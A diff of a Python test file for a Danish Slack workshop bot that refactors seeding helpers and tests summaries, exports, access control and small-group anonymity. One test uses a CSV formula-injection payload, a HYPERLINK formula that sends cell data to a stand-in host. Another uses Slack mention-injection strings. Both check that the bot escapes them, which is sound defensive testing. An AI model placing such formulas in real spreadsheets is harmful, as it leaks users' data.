@@ -14,23 +14,23 @@ from docx import Document
 from openpyxl import load_workbook
 from sqlalchemy import select
 
-from bot.facilitation.rounds import refresh_rounds
+from bot.facilitation.slack import refresh_rounds
 from bot.slack import ids
-from flows.identity import Person
-from storage.db import transaction
 from storage.models import AccessLogEntry, Participant, Workshop
 from storage.repositories import participants as people
-from storage.repositories.participants import NextStepInput
-from tests.e2e.test_core_loop import (
+from tests.support.harness import Bot
+from tests.support.people import (
     CHANNEL,
     FACILITATOR,
     PARTICIPANT,
     STEP_ANSWERS,
+    all_lights,
     code_of,
     create_workshop,
+    seed_reflections,
     start_button,
+    uploaded_files,
 )
-from tests.support.harness import Bot
 
 OUTSIDER = "UOUTSIDE"
 DM = "D" + FACILITATOR
@@ -48,49 +48,6 @@ def _danish_speakers(standin) -> None:
 
 def _dm_messages(bot: Bot) -> list[dict[str, Any]]:
     return [c.params for c in bot.standin.posted_messages(DM)]
-
-
-def _files(bot: Bot) -> dict[str, Any]:
-    return {f.filename.rsplit(".", 1)[-1]: f for f in bot.standin.uploaded_files.values()}
-
-
-def _seed(bot: Bot, workshop_id: int, rows: list[dict[str, Any]]) -> None:
-    """Many participants at once, written through the repositories (the endpoint is slow)."""
-    now = bot.clock()
-    with transaction(bot.services.sessions) as session:
-        workshop = session.get(Workshop, workshop_id)
-        assert workshop is not None
-        for number, row in enumerate(rows):
-            participant, _ = people.join(
-                session, workshop, Person.slack(workshop.team_id, f"USEED{number:04d}"), now
-            )
-            participant.named = bool(row.get("named"))
-            reflection = people.start_reflection(session, participant, "health_policy", 1, now)
-            values = {k: v for k, v in row.items() if k not in ("named", "steps")}
-            people.save_answers(session, participant, "seed", values, [], now)
-            people.replace_next_steps(
-                session,
-                participant,
-                [NextStepInput(i + 1, text, d) for i, (text, d) in enumerate(row.get("steps", []))],
-                now,
-            )
-            if row.get("completed", True):
-                reflection.status = "completed"
-                reflection.completed_at = now
-
-
-def _lights(colour: str) -> dict[str, Any]:
-    factors = (
-        "legitimacy",
-        "cross_organisation",
-        "political_backing",
-        "leadership_backing",
-        "coordinators",
-        "employee_involvement",
-        "networks",
-        "existing_resources",
-    )
-    return {"lights": dict.fromkeys(factors, colour)}
 
 
 def _rich_rows() -> list[dict[str, Any]]:
@@ -113,7 +70,7 @@ def _rich_rows() -> list[dict[str, Any]]:
                 "succeeded": {"text": texts[number % 10]},
                 "hard": {"text": texts[-1 - number % 10]},
                 "role": {"option": "consultant" if number % 2 else "leader"},
-                "lights": _lights(("green", "yellow", "red")[number % 3]),
+                "lights": all_lights(("green", "yellow", "red")[number % 3]),
                 "steps": [
                     ("Tale med direktionen om ledelsesopbakning", date(2026, 12, 1)),
                     ("Lave et årshjul med trafiklys", None),
@@ -216,7 +173,7 @@ def test_a_summary_groups_answers_escapes_them_and_uploads_the_chart(bot: Bot) -
     answers[2] = {"hard": "Svært at få ledelsen med <!channel> <@U123> <https://x|y>"}
     for step in answers:
         bot.slack.submit(PARTICIPANT, bot.slack.current_view(), step)
-    _seed(bot, workshop_id, _rich_rows())
+    seed_reflections(bot, workshop_id, _rich_rows())
 
     bot.slack.command(FACILITATOR, f"opsummering {code}")
     bot.settle()
@@ -230,7 +187,7 @@ def test_a_summary_groups_answers_escapes_them_and_uploads_the_chart(bot: Bot) -
     assert "<@USEED0000>" in text  # the one who chose to be named
     assert PARTICIPANT not in text and "USEED0001" not in text
     assert "21 svar" in text
-    chart = _files(bot)["png"]
+    chart = uploaded_files(bot)["png"]
     assert chart.channel_id == DM and chart.content.startswith(b"\x89PNG")
     with bot.services.sessions() as session:
         log = session.scalars(select(AccessLogEntry)).all()
@@ -243,11 +200,11 @@ def test_an_export_uploads_excel_word_and_csv_that_hold_the_answers(bot: Bot) ->
     min_group: dict[str, Any] = {ids.W_MIN_GROUP: 2}
     announcement = create_workshop(bot, "Fra politik til praksis", **min_group)
     workshop_id = int(start_button(announcement))
-    _seed(bot, workshop_id, _rich_rows())  # every group holds at least two answers
+    seed_reflections(bot, workshop_id, _rich_rows())  # every group holds at least two answers
     bot.slack.command(FACILITATOR, f"eksport {code_of(announcement)}")
     bot.settle()
     assert "Excel, Word og CSV" in bot.standin.responses()[-1]["text"]
-    files = _files(bot)
+    files = uploaded_files(bot)
     assert set(files) == {"xlsx", "docx", "csv"}
     assert {f.channel_id for f in files.values()} == {DM}
 
@@ -297,10 +254,10 @@ def test_small_groups_show_only_counts_and_nobody_unnamed_is_named(bot: Bot) -> 
     announcement = create_workshop(bot)
     workshop_id = int(start_button(announcement))
     secret = "Kun tre har skrevet dette hemmelige svar"
-    _seed(
+    seed_reflections(
         bot,
         workshop_id,
-        [{"hard": {"text": f"{secret} {n}"}, "lights": _lights("red")} for n in range(3)],
+        [{"hard": {"text": f"{secret} {n}"}, "lights": all_lights("red")} for n in range(3)],
     )
     bot.slack.command(FACILITATOR, f"summary {code_of(announcement)}")
     bot.slack.command(FACILITATOR, f"export {code_of(announcement)}")
@@ -308,7 +265,7 @@ def test_small_groups_show_only_counts_and_nobody_unnamed_is_named(bot: Bot) -> 
     text = json.dumps(_dm_messages(bot)[-1], ensure_ascii=False)
     assert secret not in text
     assert "3 svar – for få til at vise mere (mindste gruppe: 5 personer)" in text
-    files = _files(bot)
+    files = uploaded_files(bot)
     assert "png" not in files  # no bars below the minimum group size
     book = load_workbook(io.BytesIO(files["xlsx"].content))
     every_cell = [str(c.value) for ws in book for row in ws.iter_rows() for c in row]
@@ -322,7 +279,7 @@ def test_anyone_but_a_facilitator_is_refused_and_sees_no_data(bot: Bot) -> None:
     announcement = create_workshop(bot)
     code = code_of(announcement)
     workshop_id = start_button(announcement)
-    _seed(bot, int(workshop_id), _rich_rows())
+    seed_reflections(bot, int(workshop_id), _rich_rows())
     for command in ("opsummering", "eksport", "runde", "luk"):
         bot.slack.command(OUTSIDER, f"{command} {code}")
         bot.settle()
@@ -380,8 +337,8 @@ def test_a_summary_of_all_workshops_shows_recurring_barriers(bot: Bot) -> None:
     first = create_workshop(bot, title="Temadag 1")
     second = create_workshop(bot, title="Temadag 2")
     rows = [{"hard": {"text": "Politisk opbakning mangler i udvalget."}} for _ in range(6)]
-    _seed(bot, int(start_button(first)), rows)
-    _seed(bot, int(start_button(second)), rows[:2])  # too few to count
+    seed_reflections(bot, int(start_button(first)), rows)
+    seed_reflections(bot, int(start_button(second)), rows[:2])  # too few to count
     bot.clock.advance(days=1)
     bot.slack.command(FACILITATOR, "opsummering alle")
     bot.settle()
@@ -402,10 +359,10 @@ def test_every_csv_cell_is_formula_safe_even_an_opted_in_display_name(bot: Bot) 
         row["named"] = number < len(evil)
     for number, name in enumerate(evil):
         bot.standin.set_user(f"USEED{number:04d}", locale="da-DK", name=name)
-    _seed(bot, workshop_id, rows)
+    seed_reflections(bot, workshop_id, rows)
     bot.slack.command(FACILITATOR, f"eksport {code_of(announcement)}")
     bot.settle()
-    content = _files(bot)["csv"].content.decode("utf-8-sig")
+    content = uploaded_files(bot)["csv"].content.decode("utf-8-sig")
     cells = [c for r in csv.reader(io.StringIO(content), delimiter=";") for c in r]
     assert "'-Bente" in cells and '\'=HYPERLINK("http://x?"&A1,"Klik")' in cells
     dangerous = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
